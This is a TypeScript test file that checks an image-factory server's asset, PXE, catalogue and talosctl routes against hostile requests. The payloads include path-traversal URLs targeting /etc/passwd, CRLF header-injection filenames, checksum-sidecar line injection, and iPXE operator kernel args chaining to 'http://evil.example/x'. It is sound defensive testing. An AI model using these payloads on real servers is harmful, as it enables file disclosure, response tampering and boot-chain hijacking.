/**
 * Hostile requests against the asset, PXE, catalogue and talosctl routes: every one gets a 4xx
 * with a one-line reason (or a harmless 200 for a legal oddity), never a 500, never a file outside
 * the store, never a header injection.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { readdirSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { startEdge, type RunningEdge } from '../helpers/edge.ts'
import { sharedUpstream, type Upstream } from '../helpers/release.ts'

let up: Upstream
let edge: RunningEdge
let id: string

beforeAll(async () => {
  up = await sharedUpstream()
  edge = await startEdge(up.env)
  id = ((await (await fetch(`${edge.url}/schematics`, { method: 'POST', body: '{}' })).json()) as { id: string }).id
}, 180_000)
afterAll(async () => {
  await edge?.stop()
  await up?.stop()
})

const raw = (path: string, init?: RequestInit) => fetch(`${edge.url}${path}`, init)
/** A unique name every traversal probe tries to create, so a write anywhere can be found afterwards. */
const TOKEN = `probe-${process.pid}-${Date.now().toString(36)}`

describe('hostile asset requests', () => {
  test.each([
    ['traversal in the file name', () => `/image/${id}/v1.12.0/..%2F..%2F..%2Fetc%2Fpasswd`],
    ['traversal to a new file', () => `/image/${id}/v1.12.0/..%2F..%2F..%2F..%2F${TOKEN}.iso`],
    ['traversal out of the data directory', () => `/image/${id}/v1.12.0/..%2F..%2F..%2F..%2F..%2F..%2Ftmp%2F${TOKEN}-kernel-amd64`],
    ['dot segments to a new file', () => `/image/${id}/v1.12.0/../../../${TOKEN}-kernel-amd64`],
    ['a schematic that is a path', () => `/image/..%2F..%2F${TOKEN}/v1.12.0/kernel-amd64`],
    ['a version that is a path', () => `/image/${id}/..%2F..%2F${TOKEN}/kernel-amd64`],
    ['encoded traversal in the schematic', () => `/image/..%2F..%2Fetc/v1.12.0/kernel-amd64`],
    ['traversal in the version', () => `/image/${id}/..%2F..%2F/kernel-amd64`],
    ['version with build metadata junk', () => `/image/${id}/v1.12.0+%00/kernel-amd64`],
    ['very long version', () => `/image/${id}/v1.${'9'.repeat(5000)}.0/kernel-amd64`],
    ['very long path', () => `/image/${id}/v1.12.0/${'a'.repeat(8000)}.iso`],
    ['NUL in the path', () => `/image/${id}/v1.12.0/kernel-amd64%00.iso`],
    ['unknown platform', () => `/image/${id}/v1.12.0/cmdline-evilcloud-amd64`],
    ['secureboot when it is disabled', () => `/image/${id}/v1.12.0/cmdline-metal-amd64-secureboot`],
    ['PXE with a traversal', () => `/pxe/${id}/v1.12.0/..%2Fmetal-amd64`],
    ['catalogue with a traversal version', () => `/version/..%2F..%2Fetc/extensions/official`],
    ['talosctl with a traversal', () => `/talosctl/v1.12.0/..%2F..%2Fetc%2Fpasswd`],
    ['talosctl with an absolute path', () => `/talosctl/v1.12.0/%2Fetc%2Fpasswd`],
  ])('%s → 4xx, one line', async (_name, path) => {
    const res = await raw(path())
    const text = await res.text()
    expect(res.status).toBeGreaterThanOrEqual(400)
    expect(res.status).toBeLessThan(500)
    expect(text.trimEnd().includes('\n')).toBe(false)
    expect(text).not.toContain('root:')
  })

  test('?filename= cannot inject headers or break Content-Disposition', async () => {
    const res = await raw(`/image/${id}/v1.12.0/kernel-amd64?filename=${encodeURIComponent('a"\r\nSet-Cookie: x=1; b.bin')}`)
    expect(res.status).toBe(200)
    expect(res.headers.get('set-cookie')).toBeNull()
    const cd = res.headers.get('content-disposition')!
    expect(cd).not.toMatch(/[\r\n]/)
    expect(cd.startsWith('attachment; filename="')).toBe(true)
    await res.arrayBuffer()
  }, 60_000)

  test('?filename= cannot add lines to a checksum sidecar', async () => {
    for (const sidecar of ['sha256', 'sha512']) {
      const res = await raw(`/image/${id}/v1.12.0/kernel-amd64.${sidecar}?filename=${encodeURIComponent('a\nb\r\n0000  /etc/passwd\u0000.bin')}`)
      expect(res.status).toBe(200)
      const text = await res.text()
      expect(text).toMatch(/^[0-9a-f]+  ab0000  \/etc\/passwd\.bin\n$/)
      expect(Number(res.headers.get('content-length'))).toBe(Buffer.byteLength(text))
    }
  }, 60_000)

  test('malformed Range headers fall back to the whole file or 416, never 500', async () => {
    const url = `/image/${id}/v1.12.0/kernel-amd64`
    await (await raw(url)).arrayBuffer()
    for (const range of ['bytes=abc', 'bytes=5-1', 'bytes=-0', 'bytes=0-1,5-6', 'items=0-1', `bytes=${'9'.repeat(40)}-`]) {
      const res = await raw(url, { headers: { range: range } })
      expect([200, 206, 416]).toContain(res.status)
      await res.arrayBuffer()
    }
  }, 60_000)

  test('nothing was written outside the data directory layout', async () => {
    const allowed = new Set(['artifacts', 'assets', 'by-url', 'cache', 'keys', 'oci', 'public', 'schematics', 'tmp', 'work'])
    for (const entry of readdirSync(edge.dataDir)) expect(allowed.has(entry) ? entry : `unexpected ${entry}`).toBe(entry)
    expect(readdirSync(join(edge.dataDir, 'by-url'))).toEqual([id])
    // no file or directory named after the probes anywhere a traversal could reach: the data
    // directory's parents, the temp directory, the working directory
    const roots = [...new Set([dirname(edge.dataDir), tmpdir(), '/tmp', resolve('.')])]
    const find = Bun.spawn(['find', ...roots, '-xdev', '-name', `*${TOKEN}*`], { stdout: 'pipe', stderr: 'ignore' })
    const found = (await new Response(find.stdout).text()).trim()
    await find.exited
    expect(found).toBe('')
  }, 60_000)
})

describe('bounded per-request state', () => {
  test('1,000 distinct +meta versions: 400 each, no builder job, caches and memory flat', async () => {
    const entries = () => edge.ctx.catalog.perVersionEntries
    const jobs = () => edge.ctx.builder!.manager.counters.misses + edge.ctx.builder!.manager.counters.hits
    // warm: one real lookup of each kind fills what a legitimate version needs
    await (await raw(`/version/v1.12.0/extensions/official`)).arrayBuffer()
    await (await raw(`/image/${id}/v1.12.0/cmdline-metal-amd64`)).arrayBuffer()
    Bun.gc(true)
    const [entries0, jobs0, heap0] = [entries(), jobs(), process.memoryUsage().heapUsed]
    for (let i = 0; i < 1000; i++) {
      const v = `v1.12.0+meta${i}`
      for (const path of [`/version/${encodeURIComponent(v)}/extensions/official`, `/image/${id}/${encodeURIComponent(v)}/cmdline-metal-amd64`, `/pxe/${id}/${encodeURIComponent(v)}/metal-amd64`]) {
        const res = await raw(path)
        expect(res.status).toBe(400)
        await res.arrayBuffer()
      }
    }
    Bun.gc(true)
    expect(entries()).toBe(entries0)
    expect(jobs()).toBe(jobs0)
    const grown = process.memoryUsage().heapUsed - heap0
    console.log(`heap growth after 3,000 hostile version requests: ${(grown / 1e6).toFixed(2)} MB`)
    expect(grown).toBeLessThan(20e6)
  }, 120_000)
})

describe('PXE scripts pass only arguments to the kernel', () => {
  test('kernel args that are iPXE operators → 400 from the PXE route; the cmdline asset still answers', async () => {
    for (const args of [['&&', 'chain', 'http://evil.example/x'], ['||', 'shell'], [';', 'reboot'], ['#', 'rest'], ['#comment']]) {
      const body = JSON.stringify({ customization: { extraKernelArgs: args } })
      const sid = ((await (await raw('/schematics', { method: 'POST', body })).json()) as { id: string }).id
      const res = await raw(`/pxe/${sid}/v1.12.0/metal-amd64`)
      const text = await res.text()
      expect(res.status).toBe(400)
      expect(text.trimEnd().split('\n')).toHaveLength(1)
      expect(text).toContain('iPXE')
      expect((await raw(`/image/${sid}/v1.12.0/cmdline-metal-amd64`)).status).toBe(200)
    }
  }, 60_000)

  test('settings expansion stays allowed', async () => {
    const body = JSON.stringify({ customization: { extraKernelArgs: ['talos.config=http://10.0.0.1/c?uuid=${uuid}'] } })
    const sid = ((await (await raw('/schematics', { method: 'POST', body })).json()) as { id: string }).id
    const res = await raw(`/pxe/${sid}/v1.12.0/metal-amd64`)
    expect(res.status).toBe(200)
    expect(await res.text()).toContain(' talos.config=http://10.0.0.1/c?uuid=${uuid}\n')
  }, 60_000)
})

describe('internal failures do not reach the client', () => {
  const HOST_PATH = '/var/lib/factory-secret/work/job-1234/rootfs.sqsh'
  let fake: ReturnType<typeof Bun.serve>
  let remote: RunningEdge
  let unreachable: RunningEdge
  const seen: string[] = []

  beforeAll(async () => {
    // a builder daemon whose build fails with the imager's last stderr line (host paths)
    fake = Bun.serve({
      hostname: '127.0.0.1',
      port: 0,
      fetch: async (req) => {
        seen.push(new URL(req.url).pathname)
        return new Response(`build failed: mksquashfs failed: FATAL ERROR: Could not create destination file ${HOST_PATH}: No space left on device\n`, { status: 500 })
      },
    })
    remote = await startEdge({ ...up.env, FACTORY_BUILDER_URL: `http://127.0.0.1:${fake.port}` })
    unreachable = await startEdge({ ...up.env, FACTORY_BUILDER_URL: `unix:${join(edge.dataDir, 'no-such-dir', 'builder.sock')}` })
  }, 60_000)
  afterAll(async () => {
    await remote?.stop()
    await unreachable?.stop()
    await fake?.stop(true)
  })

  const schematic = async (e: RunningEdge) => ((await (await fetch(`${e.url}/schematics`, { method: 'POST', body: '{}' })).json()) as { id: string }).id

  test('a failed build → 500 with a fixed line naming the request, no host path', async () => {
    const sid = await schematic(remote)
    for (const path of ['kernel-amd64', 'kernel-amd64.sha256']) {
      const res = await fetch(`${remote.url}/image/${sid}/v1.12.0/${path}`, { headers: { 'x-request-id': 'req-42' } })
      const text = await res.text()
      expect(res.status).toBe(500)
      expect(text).toBe('build failed (see the factory log, request req-42)\n')
      expect(text).not.toContain('/var/lib')
      expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8')
    }
    expect(seen).toContain('/v1/build')
    const pxe = await fetch(`${remote.url}/pxe/${sid}/v1.12.0/metal-amd64`)
    expect(pxe.status).toBe(500)
    expect(await pxe.text()).not.toContain('/var/lib')
  })

  test('an unreachable builder → 503 without the socket path', async () => {
    const sid = await schematic(unreachable)
    const res = await fetch(`${unreachable.url}/image/${sid}/v1.12.0/kernel-amd64`)
    const text = await res.text()
    expect(res.status).toBe(503)
    expect(text).toBe('builder is unreachable\n')
  })
})
